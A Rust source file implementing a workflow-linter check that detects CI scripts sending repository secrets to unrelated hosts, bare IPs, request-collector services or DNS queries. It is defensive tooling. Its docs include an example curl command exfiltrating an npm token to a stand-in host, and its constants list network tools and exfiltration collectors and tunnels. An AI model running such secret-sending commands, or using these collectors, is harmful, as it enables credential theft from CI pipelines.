//! `secret-sent-elsewhere`: a script that sends a secret to a host of another service.

use std::ops::Range;

use crate::engine::repository::environment::assignments;
use crate::engine::repository::flow::variables;
use crate::engine::repository::{Repository, Site, trust};
use crate::engine::{Check, Reads, Reports, Run};
use crate::model::{Confidence, Family, Meta, Preset, Severity};
use crate::parse::script::{Program, programs};
use crate::parse::workflow::Text;

/// The check.
pub(crate) static CHECK: Check = Check {
    meta: Meta {
        id: "secret-sent-elsewhere",
        title: "secret sent to an unrelated host",
        severity: Severity::High,
        confidence: Confidence::Medium,
        family: Family::Workflow,
        remedy: "remove the line, find out who added it, and rotate each secret it names; if it is intended, give the service its own secret, in a header",
        docs: r#"
## What it does
Reports script commands (`curl`, `wget`, `nc`, `dig` and the like) that send a secret in the body or the URL, through an
expression or a variable:

- all secrets at once (`toJSON(secrets)`): `critical`;
- a secret of a well-known service, or the job's token, to a host of another service; two or more secrets to one host;
  any secret to a bare IP address, to a request-collecting host, or in a DNS query: `high`.

A secret in a header, sent to its own service, or of an unknown service, is not reported.

## Why is this bad
This is how stolen accounts are exploited: in the campaigns of 2025 and 2026 a workflow disguised as maintenance sent
the secrets of hundreds of repositories to the attacker's host with a single `curl`.

## Example
```yaml
- run: curl -d "k=$NPM_TOKEN" https://collect.example.net
  env:
    NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
```

## Use instead
```yaml
- run: npm publish
  env:
    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
```

## References
- <https://docs.github.com/en/actions/reference/security/secure-use#using-secrets>
"#,
    },
    run: Run::Repository { preset: Preset::Default, reads: Reads::Workflows, whole: false, run },
};

/// Programs that send data.
const SENDERS: [&str; 18] = [
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "dig",
    "nslookup",
    "host",
    "http",
    "https",
    "xh",
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr",
    "irm",
    "socat",
    "curlie",
];
/// Those that query a name server.
const ASKERS: [&str; 3] = ["dig", "nslookup", "host"];

/// Well-known services: words in the names of their secrets, and suffixes of their hosts.
const SERVICES: [(&str, &[&str]); 26] = [
    ("GITHUB_TOKEN", &["github.com", "ghcr.io", "githubusercontent.com", "ghe.com"]),
    ("GH_TOKEN", &["github.com", "ghcr.io", "githubusercontent.com", "ghe.com"]),
    ("GH_PAT", &["github.com", "ghcr.io", "githubusercontent.com", "ghe.com"]),
    ("NPM_", &["npmjs.org", "npmjs.com"]),
    ("NODE_AUTH", &["npmjs.org", "npmjs.com", "pkg.github.com"]),
    ("PYPI", &["pypi.org"]),
    ("TWINE", &["pypi.org"]),
    ("CARGO_REGISTRY", &["crates.io"]),
    ("CRATES_IO", &["crates.io"]),
    ("RUBYGEMS", &["rubygems.org"]),
    ("NUGET", &["nuget.org"]),
    ("DOCKERHUB", &["docker.com", "docker.io"]),
    ("DOCKER_", &["docker.com", "docker.io"]),
    ("AWS_", &["amazonaws.com", "aws.amazon.com", "amazonaws.com.cn", "awsapps.com"]),
    (
        "AZURE_",
        &[
            "azure.com",
            "windows.net",
            "microsoftonline.com",
            "microsoft.com",
            "azurewebsites.net",
            "azure.net",
        ],
    ),
    ("GCP_", &["googleapis.com", "google.com"]),
    ("GOOGLE_", &["googleapis.com", "google.com"]),
    ("CLOUDFLARE", &["cloudflare.com"]),
    ("OPENAI", &["openai.com", "azure.com"]),
    ("ANTHROPIC", &["anthropic.com"]),
    ("SONATYPE", &["sonatype.org", "sonatype.com"]),
    ("OSSRH", &["sonatype.org", "sonatype.com"]),
    ("MAVEN_", &["sonatype.org", "sonatype.com", "maven.org"]),
    ("GPG_", &["keys.openpgp.org"]),
    ("SIGNING_KEY", &[]),
    ("SSH_PRIVATE", &[]),
];

/// Request collectors, and tunnels.
const COLLECTORS: [&str; 20] = [
    "webhook.site",
    "requestbin.com",
    "requestbin.net",
    "pipedream.net",
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "oast.fun",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.me",
    "interact.sh",
    "burpcollaborator.net",
    "oastify.com",
    "trycloudflare.com",
    "loca.lt",
    "serveo.net",
    "beeceptor.com",
];

fn run(repository: &Repository, reports: &mut Reports<'_>) {
    for file in repository.files() {
        let holds = |sign: &[u8]| memchr::memmem::find(&file.bytes, sign).is_some();
        if !holds(b"secrets") && !holds(b"github.token") {
            continue;
        }
        for (job, step) in file.workflow.steps() {
            let site = Site { file, job, step: Some(step) };
            if let Some(script) = step.run.as_ref().or_else(|| step.input("script")) {
                judge_code(site, script, reports);
            }
            let Some(run) = &step.run else { continue };
            let lower = run.text.to_ascii_lowercase();
            if !SENDERS.iter().any(|sender| lower.contains(sender)) {
                continue;
            }
            for program in programs(&run.text) {
                if SENDERS.contains(&program.base().to_ascii_lowercase().as_str()) {
                    assess(site, run, program, reports);
                }
            }
        }
    }
}

/// Reports an embedded program, in a language other than shell, that sends all secrets.
fn judge_code(site: Site<'_>, script: &Text, reports: &mut Reports<'_>) {
    const SENDS: [&str; 8] = [
        "requests.post",
        "urllib",
        "fetch(",
        "http.request",
        "https.request",
        "Net::HTTP",
        "axios",
        "HttpClient",
    ];
    let is_all = |text: &Text| {
        let mut all = text.expressions();
        all.any(|one| {
            one.raw.split_whitespace().collect::<String>().to_ascii_lowercase().contains("tojson(secrets)")
        })
    };
    let mut own = site.variables();
    let Some(at) = SENDS.iter().find_map(|sign| script.text.find(sign)) else { return };
    if !is_all(script) && !own.any(|entry| is_all(&entry.value)) {
        return;
    }
    let line = script.text[at..].split('\n').next().unwrap_or("").trim_end();
    let message = "this script reads all secrets and sends data to another host".to_owned();
    reports.at(site, site.locate(script, at..at + line.len()), message).severity(Severity::Critical);
}

fn assess(site: Site<'_>, run: &Text, program: Program<'_>, reports: &mut Reports<'_>) {
    let command = line_start(&run.text, program.at)..program.at + program.name.len() + program.rest.len();
    let sent = sent(site, run, program, command.clone());
    if sent.is_empty() {
        return;
    }
    let is_question = ASKERS.contains(&program.base().to_ascii_lowercase().as_str());
    let host = host(site, program);
    let Some((severity, why)) = rate(&sent, host.as_deref(), is_question) else { return };
    let Some(names) = trust::named(&sent) else { return };
    let line = run.text[program.at..].split('\n').next().unwrap_or("").trim_end();
    let span = site.locate(run, program.at..program.at + line.len());
    let to = host.map(|host| format!(" to `{host}`")).unwrap_or_default();
    let message = format!("`{}` sends {names}{to}, {why}", program.base());
    let reported = reports.at(site, span, message);
    reported.severity(severity);
    let own = site.variables();
    for entry in own.filter(|entry| entry.value.text.contains("secrets")) {
        if variables(&run.text[command.clone()]).any(|name| name == entry.name) {
            reported.trace(site.file, entry.value.span, format!("`{}` holds it", entry.name));
        }
    }
}

fn rate(sent: &[String], host: Option<&str>, is_question: bool) -> Option<(Severity, String)> {
    if sent.iter().any(|name| name == "all") {
        return Some((Severity::Critical, "which is every secret of the repository".to_owned()));
    }
    if is_question {
        return Some((Severity::High, "in a DNS query".to_owned()));
    }
    let host = host?;
    let ends = |ends: &[&str]| ends.iter().any(|end| host == *end || host.ends_with(&format!(".{end}")));
    if matches!(host, "localhost" | "127.0.0.1" | "::1" | "0.0.0.0" | "host.docker.internal")
        || !host.contains('.')
    {
        return None;
    }
    if ends(&COLLECTORS) {
        return Some((Severity::High, "a host that collects requests".to_owned()));
    }
    if host.bytes().all(|byte| byte.is_ascii_digit() || byte == b'.') && !is_private(host) {
        return Some((Severity::High, "a bare IP address".to_owned()));
    }
    let is_own = |name: &String| {
        host.split('.').any(|label| {
            label.len() >= 3
                && words(name).any(|word| label.contains(&word) || word.len() >= 4 && word.contains(label))
        })
    };
    let others: Vec<&String> = sent.iter().filter(|name| !is_own(name)).collect();
    let foreign = others.iter().find(|name| {
        let service = SERVICES.iter().find(|(part, _)| name.to_ascii_uppercase().contains(part));
        service.is_some_and(|(_, hosts)| !ends(hosts))
    });
    if foreign.is_some() && others.len() >= 2 {
        return Some((Severity::High, "with others, to a host of another service".to_owned()));
    }
    foreign.map(|_| (Severity::High, "which does not belong to the service of the secret".to_owned()))
}

fn is_private(host: &str) -> bool {
    host.starts_with("10.")
        || host.starts_with("192.168.")
        || host.starts_with("127.")
        || (16..32).any(|part| host.starts_with(&format!("172.{part}.")))
}

/// The words of a name that identify its service.
fn words(name: &str) -> impl Iterator<Item = String> {
    const COMMON: [&str; 20] = [
        "token", "key", "secret", "api", "auth", "password", "pass", "user", "url", "hook", "webhook",
        "access", "private", "deploy", "prod", "dev", "test", "com", "bot", "the",
    ];
    let parts = name
        .split('_')
        .map(str::to_ascii_lowercase)
        .filter(|part| part.len() >= 3 && !COMMON.contains(&part.as_str()));
    parts.collect::<Vec<_>>().into_iter()
}

/// The start of the command line of the program, including what is piped into it.
fn line_start(script: &str, at: usize) -> usize {
    let mut start = script[..at].rfind('\n').map_or(0, |line| line + 1);
    // A continuation of the line before.
    while start > 1 && script[..start - 1].trim_end_matches([' ', '\t', '\r']).ends_with(['\\', '|']) {
        start = script[..start - 1].rfind('\n').map_or(0, |line| line + 1);
    }
    // Of several commands on the line, only those piped into it.
    let before = &script[start..at];
    ["&&", "||", ";"]
        .iter()
        .filter_map(|sign| before.rfind(sign).map(|at| at + sign.len()))
        .max()
        .map_or(start, |at| start + at)
}

/// The secrets that a command sends in its body or address; `all` for all of them.
fn sent(site: Site<'_>, run: &Text, program: Program<'_>, command: Range<usize>) -> Vec<String> {
    let mut names = Vec::new();
    let before = command.start..program.at;
    let mut piped = run.text[before.clone()].split(|c: char| c.is_whitespace() || c == '|');
    if piped.any(|word| matches!(word, "env" | "printenv" | "export" | "Get-ChildItem")) {
        let own = site
            .step
            .map_or(&[][..], |step| &step.env)
            .iter()
            .chain(&site.job.env)
            .chain(&site.file.workflow.env);
        own.flat_map(|entry| entry.value.expressions())
            .for_each(|expression| add(expression.raw, &mut names));
    }
    for part in parts(run, program).into_iter().chain(std::iter::once(before)) {
        add_part(site, run, part, &mut names, 0);
    }
    names
}

/// Adds the secrets in a part of the script: in expressions, and in variables of the step and of the shell.
fn add_part(site: Site<'_>, run: &Text, part: Range<usize>, names: &mut Vec<String>, depth: usize) {
    for expression in run.expressions().filter(|one| part.contains(&one.start)) {
        add(expression.raw, names);
    }
    for name in variables(&run.text[part]) {
        if let Some(value) = site.variable(name) {
            value.expressions().for_each(|expression| add(expression.raw, names));
        } else if depth < 3 {
            for value in assignments(&run.text, name) {
                add_part(site, run, value, names, depth + 1);
            }
        }
    }
}

/// Adds the secrets that an expression names.
fn add(raw: &str, names: &mut Vec<String>) {
    let lower = raw.to_ascii_lowercase();
    let flat: String = lower.split_whitespace().collect();
    let name = if flat.contains("tojson(secrets)") {
        "all".to_owned()
    } else if lower.contains("github.token") {
        "GITHUB_TOKEN".to_owned()
    } else if let Some(at) = lower.find("secrets.") {
        let rest = &raw[at + "secrets.".len()..];
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
        rest[..end].to_ascii_uppercase()
    } else {
        return;
    };
    if !name.is_empty() && !names.contains(&name) {
        names.push(name);
    }
}

/// The words of a command that are sent, without headers and options of the program itself.
fn parts(run: &Text, program: Program<'_>) -> Vec<Range<usize>> {
    // Options for credentials or for handling the response.
    const LEFT_OUT: [&str; 22] = [
        "-H",
        "--header",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-o",
        "--output",
        "-O",
        "-e",
        "--referer",
        "-b",
        "--cookie",
        "--oauth2-bearer",
        "--cert",
        "--key",
        "--cacert",
        "-E",
        "-Headers",
        "--http-user",
        "--http-password",
        "-w",
    ];
    let start = program.at + program.name.len();
    let words = words_of(&run.text, start..start + program.rest.len());
    let mut all = Vec::new();
    let mut is_left_out = false;
    for range in words {
        let word = &run.text[range.clone()];
        if is_left_out {
            is_left_out = false;
            continue;
        }
        if LEFT_OUT.contains(&word) {
            is_left_out = true;
            continue;
        }
        let is_joined = word.starts_with("-H") && word.len() > 2 && !word.starts_with("-Head")
            || LEFT_OUT
                .iter()
                .any(|option| option.starts_with("--") && word.starts_with(&format!("{option}=")));
        // Credentials before the host are meant for that host.
        if !is_joined {
            all.push(range);
        }
    }
    all
}

/// The positions of the words of a command; quoted text is one word.
fn words_of(script: &str, range: Range<usize>) -> Vec<Range<usize>> {
    let mut all = Vec::new();
    let (mut start, mut quote) = (None, None);
    let mut braces = 0_usize;
    let bytes = script.as_bytes();
    for at in range.clone() {
        let byte = bytes[at];
        match byte {
            b'{' => braces += 1,
            b'}' => braces = braces.saturating_sub(1),
            _ => {}
        }
        match (byte, quote) {
            (b'"' | b'\'', None) => quote = Some(byte),
            (byte, Some(open)) if byte == open => quote = None,
            _ => {}
        }
        let is_end = byte.is_ascii_whitespace() && quote.is_none() && braces == 0;
        match (is_end, start) {
            (true, Some(first)) => {
                all.push(first..at);
                start = None;
            }
            (false, None) => start = Some(at),
            _ => {}
        }
        if quote.is_none() && braces == 0 && matches!(byte, b';' | b'|') {
            break;
        }
    }
    if let Some(first) = start {
        all.push(first..range.end);
    }
    all
}

/// The host that the command talks to, in lower case; variables are resolved.
fn host(site: Site<'_>, program: Program<'_>) -> Option<String> {
    let base = program.base().to_ascii_lowercase();
    let resolved = |word: &str| {
        let name = variables(word).next().filter(|_| word.starts_with('$'));
        let value = name.and_then(|name| site.variable(name)).map(|value| value.text.clone());
        value.unwrap_or_else(|| word.to_owned())
    };
    let words: Vec<String> = program.words().map(resolved).collect();
    let of_url = words.iter().find_map(|word| {
        let (_, rest) = word.split_once("://")?;
        let rest = rest.split(['/', '?', '#', '"', '\'']).next().unwrap_or("");
        let rest = rest.rsplit('@').next().unwrap_or(rest);
        Some(rest.split(':').next().unwrap_or(rest).to_ascii_lowercase())
    });
    let bare = || {
        let mut values = words.iter().filter(|word| !word.starts_with('-'));
        values
            .find(|word| word.contains('.') && !word.contains(['=', '{', '@', '$']))
            .map(|word| word.split(['/', ':']).next().unwrap_or("").to_ascii_lowercase())
    };
    let found = of_url.or_else(|| {
        if ["nc", "ncat", "netcat", "telnet", "curl", "wget"].contains(&base.as_str()) {
            bare()
        } else {
            None
        }
    })?;
    let is_host =
        !found.is_empty() && found.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-".contains(&byte));
    is_host.then_some(found)
}
